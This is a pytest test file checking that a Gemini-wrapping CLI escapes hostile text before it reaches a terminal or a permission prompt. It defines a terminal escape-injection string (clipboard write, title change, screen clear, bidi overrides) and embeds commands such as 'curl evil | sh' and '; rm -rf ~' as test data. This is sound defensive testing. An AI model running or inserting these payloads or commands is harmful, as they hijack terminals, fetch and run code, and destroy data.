"""What strangers write cannot take over a terminal: every command, and the question of a chat."""

import asyncio
import json
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from functools import cache
from importlib import import_module
from io import StringIO
from pathlib import Path
from typing import Any, NamedTuple

import psycopg
import pytest
from inbox_parts import leave_questions
from rich.style import Style
from rich.text import Text as Line
from servers import empty_database
from typer.main import get_command

import geminorum.apps.command
from command_home import A, B, SavedHome
from command_line import SOURCE, Terminal
from command_line import geminorum_command as command
from geminorum import Api, Deny, Options, PermissionRequest, sync, workspace
from geminorum.apps.command.app import COMMANDS
from geminorum.apps.command.chat.questions import question
from geminorum.apps.command.render import events as shown_events
from geminorum.apps.command.render.console import PrintableConsole
from geminorum.fleet import sync as fleets
from geminorum.inbox import Question
from geminorum.inbox import sync as inboxes
from geminorum.testing import FakeGemini
from geminorum.views.plain_text import printable, printable_line

# The clipboard, the title, the whole screen, unseen letters; the same in one byte; and what turns
# round, splits or hides the letters beside it.
EVIL = (
    "\x1b]52;c;UFdORUQ=\x07\x1b]0;stolen\x07\x1b[2J\x1b[8m\x9b5m\x7f\r"
    "\u202e\u2066\u200b\u200f\u2028\xad\ufeff\u3164\U000e0041PWNED"
)
NAME = EVIL.replace("\r", "")
"""For files and folders: their names go through text files of the CLI."""
MARKS = re.compile(r"\x1b\[(?:[0-9;]*[mABCDHK]|0?J|\?[0-9]+[hl])")
"""Colours and movements that rich and prompt_toolkit write; none of them is in EVIL but `[8m`."""
SEEN = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd")
"""Format characters, and yet they are drawn."""
API = ("--via", "api", "--model", "flash")


def hidden(text: str) -> set[str]:
    """The control and invisible characters of a text, by Unicode's own tables."""
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    found = {letter for letter in set(text) if unicodedata.category(letter) in kinds}
    found |= set(text) & set("\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0")
    return found - SEEN - set("\t\n")


def hidden_on(screen: Terminal) -> set[str]:
    """… of what a terminal got, but for what draws our own colours."""
    assert "\x1b[8m" not in screen.raw
    assert "\x1b[2J" not in screen.raw
    return hidden(MARKS.sub("", re.sub("[\r\b]", "", screen.raw)))


class HostileFleet(NamedTuple):
    """A database with a job, and a worker, that say what strangers write."""

    url: str
    done: str

    def queued(self) -> str:
        with fleets.Fleet(self.url) as fleet:
            return fleet.submit(EVIL, Options(model="flash"), via="api", tenant="waits").id

    def cancelled(self) -> str:
        with fleets.Fleet(self.url) as fleet:
            job = fleet.submit(EVIL, Options(model="flash"), via="api", tenant="waits")
            job.cancel()
            return job.id

    def with_patch(self, patch: Path) -> str:
        """The job that is done, as if it had changed files."""
        with psycopg.connect(self.url, autocommit=True) as connection:
            update = "UPDATE geminorum_jobs SET patch = %s WHERE id = %s"
            connection.execute(update, (patch.read_bytes(), self.done))
        return self.done


def _fill(url: str) -> HostileFleet:
    command("fleet", "init", "--db", url).check_returncode()
    program = [sys.executable, "-m", "geminorum", "worker", "--via", "api", "--name", EVIL]
    with FakeGemini() as model, fleets.Fleet(url) as fleet:
        model.whenever().say(EVIL, thoughts=(EVIL,), model=EVIL).always()
        job = fleet.submit(EVIL, Options(model="flash"), via="api")
        env = {**model.env, "GEMINORUM_DB": url, "PYTHONPATH": str(SOURCE)}
        with subprocess.Popen(program, env=env, stdout=subprocess.DEVNULL) as worker:
            try:
                job.wait()
            finally:
                worker.kill()  # Its row stays: a worker that has left is not shown.
        return HostileFleet(url, job.id)


@pytest.fixture(scope="module")
def hostile_fleet(request) -> Callable[[], HostileFleet]:
    """Made when the first test asks for it."""
    return cache(lambda: _fill(empty_database(request.getfixturevalue("server"))))


class World(NamedTuple):
    """A home, a folder and an API in which everything is hostile."""

    saved: SavedHome
    env: dict[str, str]
    model: Any
    folder: Path
    fleet: Callable[[], HostileFleet]

    @property
    def cwd(self) -> Path:
        return self.saved.cwd


@pytest.fixture
def world(tmp_path, fake_gemini, hostile_fleet) -> World:
    saved = SavedHome(tmp_path / f"home{NAME}", tmp_path / f"work{NAME}")
    calls = ((EVIL, {EVIL: EVIL}), ("run_shell_command", {"command": EVIL}))
    saved.save(A, f"find {EVIL}", EVIL, calls=calls, model=EVIL)
    saved.save(B, f"find {EVIL}", EVIL, day=2, model=f"other {EVIL}")
    (saved.home / ".gemini/tmp" / saved.cwd.name / f"chats/session-{NAME}.jsonl").write_text("{")
    (saved.home / ".gemini/settings.json").write_text(json.dumps({EVIL: EVIL})[:-1] + "," + EVIL)
    skill = saved.cwd / ".gemini/skills" / NAME / "SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_text(f"---\nname: {NAME}\ndescription: {NAME}\n---\n{EVIL}")
    program = tmp_path / f"bin{NAME}" / "gemini"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\nprintf '%s' '{NAME}'\nexit 1\n")
    program.chmod(0o755)
    env = {**fake_gemini.env, **saved.env, "GEMINI_CLI_PATH": str(program)}
    fake_gemini.whenever().say(EVIL, thoughts=(EVIL,), model=EVIL).always()
    return World(saved, env, fake_gemini, tmp_path, hostile_fleet)


def leaves(name: str) -> Iterator[str]:
    """A command, or each command of a group and of the groups in it."""
    found = get_command(import_module(f"geminorum.apps.command.{COMMANDS[name].module}").app)
    yield from leaves_below(name, found)


def leaves_below(name: str, found: object) -> Iterator[str]:
    below = getattr(found, "commands", {})
    if not below:
        yield name
    for one, inner in below.items():
        yield from leaves_below(f"{name} {one}", inner)


LEAVES = [leaf for name in COMMANDS for leaf in leaves(name)]
Step = tuple[str, str]
"""Words to wait for, and keys to send then."""


class Act(NamedTuple):
    """How a command meets the hostile world."""

    words: tuple[str | Path, ...] = ()
    steps: tuple[Step, ...] = ()
    tells: bool = True
    """Does it show anything of what it met?"""


def file(world: World, name: str, text: str) -> Path:
    path = world.folder / f"{NAME}{name}"
    path.write_text(text)
    return path


def batch(world: World) -> Act:
    rows = [{"prompt": EVIL, "id": EVIL}, {"prompt": "fail", "id": f"x{EVIL}"}]
    world.model.whenever("fail").fail(400, EVIL).always()
    path = file(world, "prompts.jsonl", "\n".join(map(json.dumps, rows)))
    return Act((path, *API, "--restart"))


def policy(world: World) -> Path:
    text = f'[[rule]]\ntoolName = "*"\ndecision = "ask_user"\npriority = 1\n# {NAME}'
    return file(world, "mine.toml", re.sub("[\x00-\x08\x0e-\x1f\x7f]", "", text))


def travelled(world: World) -> tuple[Path, Path, Path]:
    """A folder, its pack, and the patch of what was changed in a copy; with hostile names."""
    origin = world.folder / f"origin{NAME}"
    origin.mkdir()
    (origin / f"kept{NAME}").write_text(EVIL)
    pack, patch = world.folder / "a.pack", world.folder / "a.patch"
    made = workspace.Workspace(origin).pack()
    made.save(pack)
    there = workspace.Workspace.unpack(made, world.folder / f"there{NAME}")
    (there.folder / f"new{NAME}").write_text(f"{EVIL}\n")
    there.diff().save(patch)
    return origin, pack, patch


def on_fleet(act: Callable[[World, HostileFleet], Act]) -> Callable[[World], Act]:
    def with_database(world: World) -> Act:
        fleet = world.fleet()
        done = act(world, fleet)
        return done._replace(words=(*done.words, "--db", fleet.url))

    return with_database


def apply_job(world: World, fleet: HostileFleet) -> Act:
    origin, _, patch = travelled(world)
    return Act((fleet.with_patch(patch), origin, "--show"))


def in_inbox(act: Callable[[Question], Act], *, answered: bool = False) -> Callable[[World], Act]:
    def with_question(world: World) -> Act:
        path = world.folder / "state" / "inbox.db"
        call = PermissionRequest(EVIL, EVIL, {"command": EVIL, EVIL: EVIL}, session_id="s")
        inbox = inboxes.Inbox(path)
        asyncio.run(leave_questions(path, call, cwd=str(world.folder / EVIL)))
        (question,) = inbox.questions()
        if answered:
            inbox.answer(question.id, Deny(EVIL), by=EVIL)
        done = act(question)
        return done._replace(words=(*done.words, "--db", path))

    return with_question


CHATS = (("number", "\r"), ("> ", "Hi\r"), ("done", "/cost\r"), ("total", "/quit\r"))
ACTS: dict[str, Callable[[World], Act]] = {
    "run": lambda world: Act((EVIL, *API)),
    "chat": lambda world: Act((*API, "--pick"), CHATS),
    "batch": batch,
    "inbox list": in_inbox(lambda question: Act()),
    "inbox show": in_inbox(lambda question: Act((question.id,)), answered=True),
    "inbox allow": in_inbox(lambda question: Act((question.id, "--always"))),
    "inbox deny": in_inbox(lambda question: Act((question.id,)), answered=True),
    "inbox resume": in_inbox(lambda question: Act((question.id,)), answered=True),
    "inbox prune": in_inbox(lambda question: Act(tells=False)),
    "sessions list": lambda world: Act(("--limit", "1", "--cwd", world.cwd)),
    "sessions search": lambda world: Act(("find",)),
    "sessions show": lambda world: Act((A,)),
    "sessions tail": lambda world: Act((A,), (("PWNED", "\x03"),)),
    "sessions export": lambda world: Act((A,)),
    "sessions fork": lambda world: Act((A,), tells=False),
    "sessions delete": lambda world: Act((A,), (("[y/N]", "y\r"),)),
    "usage": lambda world: Act(("--by", "model")),
    "cost": lambda world: Act((A, "--explain")),
    "doctor": lambda world: Act(("--fix", "--yes")),
    "setup": lambda world: Act(("--version", EVIL, "--into", world.folder / NAME)),
    "policy show": lambda world: Act(("--policy", policy(world))),
    "policy test": lambda world: Act((A,)),
    "skills list": lambda world: Act(),
    "skills validate": lambda world: Act((world.cwd / ".gemini/skills" / NAME,)),
    "models": lambda world: Act(tells=False),
    "config schema": lambda world: Act(tells=False),
    "config validate": lambda world: Act((file(world, "a.json", json.dumps({EVIL: EVIL})),)),
    "workspace pack": lambda world: Act(("-o", world.folder / f"b{NAME}", travelled(world)[0])),
    "workspace unpack": lambda world: Act((travelled(world)[1], world.folder / f"c{NAME}")),
    "workspace diff": lambda world: Act(
        (travelled(world)[1], world.folder / f"there{NAME}", "-o", world.folder / f"d{NAME}")
    ),
    "workspace apply": lambda world: Act((*travelled(world)[::-2], "--show")),
    "workspace recover": lambda world: Act((travelled(world)[0],), tells=False),
    "fleet init": on_fleet(lambda world, fleet: Act(tells=False)),
    "fleet status": on_fleet(lambda world, fleet: Act()),
    "fleet prune": on_fleet(lambda world, fleet: Act(("--dry-run",), tells=False)),
    "fleet limits list": on_fleet(lambda world, fleet: Act(tells=False)),
    "fleet limits set": on_fleet(
        lambda world, fleet: Act(("concurrency", "3", "--tenant", f"stolen{NAME}"))
    ),
    "fleet limits remove": on_fleet(
        lambda world, fleet: Act(("concurrency", "--tenant", f"stolen{NAME}"))
    ),
    "worker": on_fleet(
        lambda world, fleet: Act(
            ("--via", "api", "--name", EVIL, "--tenants", "nobody"), (("worker", "\x03"),)
        )
    ),
    "submit": on_fleet(lambda world, fleet: Act((EVIL, *API, "--tenant", "waits"), tells=False)),
    "jobs list": on_fleet(lambda world, fleet: Act()),
    "jobs show": on_fleet(lambda world, fleet: Act((fleet.done,))),
    "jobs watch": on_fleet(lambda world, fleet: Act((fleet.done,))),
    "jobs cancel": on_fleet(lambda world, fleet: Act((fleet.queued(),), tells=False)),
    "jobs retry": on_fleet(lambda world, fleet: Act((fleet.cancelled(),), tells=False)),
    "jobs apply": on_fleet(apply_job),
    "web": lambda world: Act(("--cwd", world.cwd), (("Ctrl-C ends", "\x03"),), tells=False),
    "fake": lambda world: Act((), (("Ctrl-C ends it", "\x03"),), tells=False),
}


def test_no_command_is_forgotten_here():
    assert sorted(ACTS) == sorted(LEAVES)


@pytest.mark.parametrize("leaf", LEAVES)
def test_no_command_lets_strangers_take_over_the_terminal(leaf, world):
    act = ACTS[leaf](world)
    words = [*leaf.split(), *act.words]
    with Terminal(*words, env=world.env, cwd=world.cwd, columns=200) as screen:
        for said, keys in act.steps:
            screen.wait_for(said)
            screen.send(keys)
        screen.ends_with()
    assert hidden_on(screen) == set()
    assert ("stolen" in screen.text) is act.tells, screen.text
    assert "geminorum itself failed" not in screen.text


PIPED = sorted(set(LEAVES) - {"chat", "fake", "sessions tail", "sessions delete", "web", "worker"})
"""Those that end by themselves; the others follow below."""
EXACT = ("sessions export", "policy show")
"""What was asked for as data goes into a pipe as it is."""


@pytest.mark.parametrize("leaf", PIPED)
def test_plain_text_in_a_pipe_has_no_hidden_letters(leaf, world):
    act = ACTS[leaf](world)
    done = command(*leaf.split(), *act.words, env=world.env, cwd=world.cwd)
    assert hidden(done.stderr) == set()
    assert bool(hidden(done.stdout)) is (leaf in EXACT), done.stdout


@pytest.mark.parametrize("leaf", LEAVES)
def test_no_wrong_option_or_argument_takes_over_the_terminal(leaf, world):
    for words in ((f"--{EVIL}",), (EVIL, EVIL, EVIL)):
        with Terminal(*leaf.split(), *words, env=world.env, cwd=world.cwd) as screen:
            screen.ends_with()
        assert hidden_on(screen) == set()


def test_the_fake_shows_a_hostile_request_as_text(world):
    with Terminal("fake", env=world.env, cwd=world.cwd, columns=200) as screen:
        screen.wait_for("Ctrl-C ends it")
        url = screen.text.partition("export GOOGLE_GEMINI_BASE_URL=")[2].split()[0]
        env = {"GOOGLE_GEMINI_BASE_URL": url, "GEMINI_API_KEY": "k"}
        sync.ask(EVIL, Options(env=env, model="flash"), via=Api())
        screen.wait_for("stolen")
        screen.send("\x03")
        assert screen.ends_with() == 0
    assert hidden_on(screen) == set()


def test_a_chat_and_a_removal_in_a_pipe_have_no_hidden_letters(world):
    for words, stdin in ((["chat", *API], "Hi\n"), (["sessions", "delete", "--yes", A], "")):
        done = command(*words, stdin=stdin, env=world.env, cwd=world.cwd)
        assert (done.returncode, hidden(done.stdout + done.stderr)) == (0, set())
        assert "stolen" in done.stdout


@pytest.mark.parametrize("term", ["dumb", "xterm-256color"])
def test_a_terminal_without_colours_gets_no_escape_at_all(world, term):
    env = {**world.env, "TERM": term, "NO_COLOR": "1"}
    for words in (["sessions", "show", A, "--json"], ["config", "validate", world.folder / "no"]):
        with Terminal(*words, env=env, cwd=world.cwd) as screen:
            screen.ends_with()
        assert hidden(screen.raw.replace("\r\n", "\n")) == set()
    with Terminal("run", "Hi", *API, env={**env, "TERM": "dumb"}, cwd=world.cwd) as screen:
        assert screen.ends_with() == 0
    assert "stolen" in screen.text
    assert hidden(screen.raw.replace("\r\n", "\n")) == set()


def test_json_is_safe_to_look_at_and_means_exactly_what_was_said(world):
    for words in (["run", "Hi", *API, "--json"], ["sessions", "show", A, "--json"]):
        done = command(*words, env=world.env, cwd=world.cwd)
        assert hidden(done.stdout) == set()
        told = [json.loads(line) for line in done.stdout.splitlines()]
        assert EVIL in [event.get("text") for event in told]


def test_data_that_was_asked_for_is_exact_in_a_pipe_and_in_a_file(world):
    env, cwd = world.env, world.cwd
    page = command("sessions", "export", A, env=env, cwd=cwd).stdout
    target = world.folder / "page.md"
    assert command("sessions", "export", A, "-o", target, env=env, cwd=cwd).returncode == 0
    assert page == target.read_bytes().decode()
    assert EVIL in page
    shown = command("policy", "show", "--policy", path := policy(world), env=env, cwd=cwd).stdout
    assert shown == path.read_bytes().decode()


def test_an_answer_in_pieces_keeps_its_emoji(fake_gemini):
    fake_gemini.say("A family: 👨", "\u200d👩", "\u200d", "👧 and \u200d", "nothing", "\r", "\nEnd")
    done = command("run", "Hi", *API, env=fake_gemini.env)
    assert done.stdout == "A family: 👨\u200d👩\u200d👧 and \\u200dnothing\nEnd\n"


def test_a_traceback_cannot_take_over_the_terminal_either():
    code = (
        "import sys\n"
        "from geminorum.apps.command.render.printable_output import make_output_printable\n"
        "make_output_printable(); make_output_printable()\n"
        "raise RuntimeError(sys.argv[1])"
    )
    done = subprocess.run([sys.executable, "-c", code, EVIL], capture_output=True, check=False)
    assert b"RuntimeError: \\u001b]52" in done.stderr
    assert hidden(done.stderr.decode()) == set()


def test_nothing_in_the_command_writes_past_the_printable_streams():
    """To write text: `sys.stdout.write`, `show.console()`, `show.confirmed`; data: `show`."""
    past = re.compile(
        r"[^e]Console\(|[^.]\bprint\(|typer\.(?:echo|secho|confirm|prompt)"
        r"|out\.buffer|err\.buffer|stream_behind"
        r"|__std(?:out|err)__|os\.write|/dev/tty"
    )
    allowed = {"printable_output.py", "output.py", "console.py"}
    modules = Path(geminorum.apps.command.__file__).parent.rglob("*.py")
    found = {
        f"{path.name}: {line.strip()}"
        for path in modules
        for line in path.read_text().splitlines()
        if past.search(line) and path.name not in allowed
    }
    assert found == set()


# ---- the one function


@pytest.mark.parametrize(
    "text",
    [
        "tabs\tand\nlines",
        "e\u0301 é ñ",
        "שלום عليكم",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "क\u094d\u200dष ന\u0d4d\u200d",
        "ជា\u200bភាសា",
        "👨\u200d👩\u200d👧 👩🏽\u200d🚀 🏳\ufe0f\u200d🌈 ❤\ufe0f\u200d🔥 1\ufe0f⃣ ☺\ufe0e 👍🏽",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "日本語 한국어 \u3000 \xa0 \ue0b0",
        r"C:\users \u001b",
    ],
)
def test_what_people_write_stays_as_it_is(text):
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31m\x9b\x7f\x00", r"\u001b[31m\u009b\u007f\u0000"),
        ("one\r\ntwo\rthree", "one\ntwo\\rthree"),
        ("user\u202etxt.exe", r"user\u202etxt.exe"),
        ("r\u200dm r\u200cm \u200d👩", r"r\u200dm r\u200cm \u200d👩"),
        ("a\ufe0f\u200d👩 👩\ufe0f\ufe0f", "a\\ufe0f\\u200d👩 👩\ufe0f\\ufe0f"),
        ("\U000e0041 🏴\U000e0067\U000e007f", r"\udb40\udc41 🏴\udb40\udc67\udb40\udc7f"),
        ("葛\U000e0100 x\u034fy \ud800", r"葛\udb40\udd00 x\u034fy \ud800"),
    ],
)
def test_what_acts_or_hides_is_shown(text, shown):
    assert printable(text) == shown
    assert printable(shown) == shown


def test_no_hidden_letter_of_unicode_is_forgotten():
    assert hidden(printable("x".join(map(chr, range(0x110000))))) == set()


def test_a_name_stays_on_its_line():
    assert printable_line("a\nb\tc\u2028d\r\ne") == r"a\nb\tc\u2028d\ne"


# ---- what a chat asks


def asked(columns: int = 60, name: str = "run_shell_command", **arguments: Any) -> str:
    """The question as a terminal shows it."""
    request = PermissionRequest(name, id="1", input=arguments, reason="a title")
    screen = PrintableConsole(file=StringIO(), width=columns, height=24, force_terminal=True)
    screen.print(question(request, Path()))
    text = screen.file.getvalue()
    assert hidden(MARKS.sub("", text)) == set()
    return MARKS.sub("", text)


def test_a_question_shows_what_hides_in_a_command():
    assert r"$ echo \u202efdp.txt\u200b" in asked(command="echo \u202efdp.txt\u200b")
    text = asked(command="ls" + " " * 5000 + "; rm -rf ~" + "\n \n" * 300 + "curl evil | sh")
    assert text.count("\n") < 8
    for words in ("…5000 spaces…", "; rm -rf ~", "…599 empty lines…", "curl evil | sh"):
        assert words in text


def test_a_question_shows_every_argument():
    text = asked(command="rm -rf *", dir_path="/home/ada", is_background=True)
    assert "dir_path: /home/ada" in text
    assert "is_background: true" in text
    text = asked(name="mcp_x_send", path="a.txt", **{f"to{EVIL}": {"all": [EVIL]}})
    assert "path: a.txt" in text
    assert text.count("PWNED") == 2
    assert "it says: a title" in asked(name="mcp_x_send"), "no transport tells arguments that long"


def test_a_question_about_a_write_shows_what_is_written_whatever_else_is_said(tmp_path):
    text = asked(
        name="write_file",
        file_path=str(tmp_path / "a\nb"),
        content="evil\u2028line",
        old_string="nice",
        new_string="nicer",
    )
    assert "content: evil\\u2028line" in text
    assert r"a\nb" in text.replace("\n", "")
    (tmp_path / "c").write_bytes(b"one\r\ntwo\r\n")
    text = asked(name="write_file", file_path=str(tmp_path / "c"), content="one\ntwo\n")
    assert "-one\\r\n" in text, "only the line ends change"
    (tmp_path / "c").write_bytes(b"one\r\ntwo\r\n")
    text = asked(name="write_file", file_path=str(tmp_path / "c"), content="one\r\nTWO\r\n")
    assert "\\r" not in text


def test_a_question_that_is_taller_than_the_terminal_says_so():
    assert "scroll up" not in asked(command="ls\n" * 10)
    assert "lines; scroll up" in asked(command="echo\n" * 30)


@pytest.mark.gemini_cli
@pytest.mark.parametrize("via", ["acp", "cli"])
def test_the_real_cli_asks_about_the_whole_of_a_hostile_command(
    via, fake_gemini, real_transport, tmp_path
):
    evil = f"echo hi{' ' * 400}; echo \u202e\u200b{chr(10) * 50}echo >PWNED"
    fake_gemini.call("run_shell_command", command=evil, description=EVIL).say("Then not.")
    env = {"GEMINI_CLI_PATH": str(real_transport.executable), **fake_gemini.env}
    with Terminal("chat", "--via", via, env=env, cwd=tmp_path) as chat:
        chat.wait_for("> ")
        chat.send("Go\r")
        chat.wait_for("? run_shell_command")
        chat.wait_for("…400 spaces…")
        chat.wait_for(r"\u202e\u200b")
        chat.wait_for("…49 empty lines…")
        chat.wait_for("echo >PWNED")
        chat.wait_for("what to do instead:")
        chat.send("n\r")
        chat.wait_for("Then not.")
        chat.wait_for("> ")
        chat.send("/quit\r")
        assert chat.ends_with() == 0
    assert hidden_on(chat) == set()
    assert not (tmp_path / "PWNED").exists()


def test_an_answer_in_markdown_makes_no_links_and_hides_nothing():
    text = (
        "[bank](https://evil.example/%E2%80%AEx) ![i](https://evil.example/i) [link=x]y[/link]"
        " &#x202e;&#8203;&shy; <https://evil.example/%E2%80%AE>\n\n`&#x202e;`\n"
    )
    screen = PrintableConsole(file=StringIO(), width=60, force_terminal=True, markup=False)
    screen.print(shown_events.said(text))
    screen.print(Line("click", Style(link="https://evil.example")))
    raw = screen.file.getvalue()
    assert "\x1b]8" not in raw
    assert hidden(MARKS.sub("", raw)) == set()
    drawn = MARKS.sub("", raw)
    assert "bank (https://evil.example/" in drawn
    assert "i (https://evil.example/i)" in " ".join(drawn.split())
    assert "[link=x]y[/link]" in drawn
    assert r"\u202e\u200b\u00ad" in drawn
    assert max(map(len, drawn.split("\n"))) <= 60
